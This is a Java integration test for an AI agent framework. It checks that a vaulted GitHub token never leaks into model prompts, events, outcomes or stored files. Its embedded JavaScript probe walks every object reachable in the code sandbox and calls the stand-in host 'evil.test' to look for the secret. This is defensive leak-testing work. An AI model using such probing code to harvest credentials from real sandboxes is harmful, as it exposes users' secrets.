package io.jarviscore.atoms;

import static org.assertj.core.api.Assertions.assertThat;

import io.jarviscore.AgentCard;
import io.jarviscore.AgentTool;
import io.jarviscore.AutoAgent;
import io.jarviscore.MeshClock;
import io.jarviscore.Outcome;
import io.jarviscore.Step;
import io.jarviscore.json.Json;
import io.jarviscore.nexus.vault.Vault;
import io.jarviscore.nexus.vault.VaultKeys;
import io.jarviscore.testing.ScriptedChatModel;
import io.jarviscore.testing.TestMesh;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * A service echoes the token in every answer. Searched for it afterwards: what generated code can
 * reach in its sandbox, prompts, events, outcomes, and every file outside the vault.
 */
@Timeout(60)
class TokenSearchIT {
    private static final String TOKEN = "CANARY-7d1f-of-the-atoms";
    private static final String SECRET = "the secret of this test's vault";

    /** Returns everything that generated code can reach, functions and the text of errors too. */
    private static final String REACHABLE =
            """
            const reply = await readService('github', 'URL/code', {'X-Note': 'mine'});
            let failure = '';
            try { await readService('github', 'https://evil.test/'); }
            catch (e) { failure = e + ' ' + e.stack + ' ' + e.message; }
            const seen = new Set();
            const texts = [failure];
            const walk = (value, depth) => {
              if (value === null || seen.has(value) || depth > 6) return;
              if (typeof value !== 'object' && typeof value !== 'function') {
                texts.push(String(value));
                return;
              }
              seen.add(value);
              try { texts.push(String(value)); } catch (e) { texts.push('?'); }
              for (const key of Reflect.ownKeys(value)) {
                texts.push(String(key));
                try { walk(value[key], depth + 1); } catch (e) { texts.push(String(e)); }
              }
            };
            walk(globalThis, 0);
            walk(reply, 0);
            walk(readService, 0);
            result = texts.join(' ').slice(0, 60000);
            """;

    @TempDir private Path folder;

    private static final class Clerk extends AutoAgent {
        Clerk() {
            super(AgentCard.of("clerk", "services"), "You are a clerk.");
        }

        @Override
        protected boolean requiresAuth() {
            return true;
        }

        @Override
        protected List<AgentTool> tools() {
            return Atoms.standard().only("github_create_issue").tools();
        }
    }

    @Test
    void theTokenIsNowhereButInTheVault() throws IOException {
        Path vault = folder.resolve("vault");
        Vault.at(vault, VaultKeys.of(SECRET), MeshClock.system())
                .register("github", Map.of("access_token", TOKEN));
        ScriptedChatModel model = new ScriptedChatModel();
        StringBuilder seen = new StringBuilder();
        try (RecordedService service = new RecordedService()) {
            service.answers(201, "{\"number\":7,\"title\":\"your token is " + TOKEN + "\"}");
            Path providers = folder.resolve("providers.json");
            Map<String, Object> github =
                    Map.of("hosts", List.of(service.url()), "network", "loopback");
            Files.writeString(providers, Json.write(Map.of("providers", Map.of("github", github))));
            model.toolCall(
                            "call_service",
                            Map.of("provider", "github", "method", "GET", "url", service.url()))
                    .toolCall("run_code", Map.of("code", REACHABLE.replace("URL", service.url())))
                    .toolCall(
                            "github_create_issue",
                            Map.of("owner", "acme", "repo", "app", "title", "Slow"))
                    .text("done");
            try (TestMesh mesh =
                    TestMesh.start(
                            with ->
                                    with.add(new Clerk())
                                            .chatModel(model)
                                            .config("nexus_enabled", true)
                                            .config("nexus_secret", SECRET)
                                            .config("nexus_vault", vault.toString())
                                            .config("nexus_providers", providers.toString())
                                            .config(
                                                    "storage_base_path",
                                                    folder.resolve("blobs").toString()))) {
                Outcome outcome = mesh.workflow("w", Step.of("a", "clerk", "Do it")).step("a");
                assertThat(outcome.isSuccess()).as(outcome.summary()).isTrue();
                seen.append(outcome).append(outcome.payload()).append(mesh.mesh().status());
                mesh.events().all().forEach(seen::append);
            }
            assertThat(service.received())
                    .hasSize(3)
                    .allMatch(
                            call ->
                                    ("Bearer " + TOKEN)
                                            .equals(call.headers().getFirst("Authorization")));
        }
        model.requests()
                .forEach(request -> seen.append(request.messages()).append(request.tools()));
        assertThat(seen).contains("[secret]").doesNotContain(TOKEN).doesNotContain(SECRET);
        try (Stream<Path> files = Files.walk(folder)) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                assertThat(Files.readString(file, StandardCharsets.ISO_8859_1))
                        .as(file.toString())
                        .doesNotContain(TOKEN);
            }
        }
    }
}
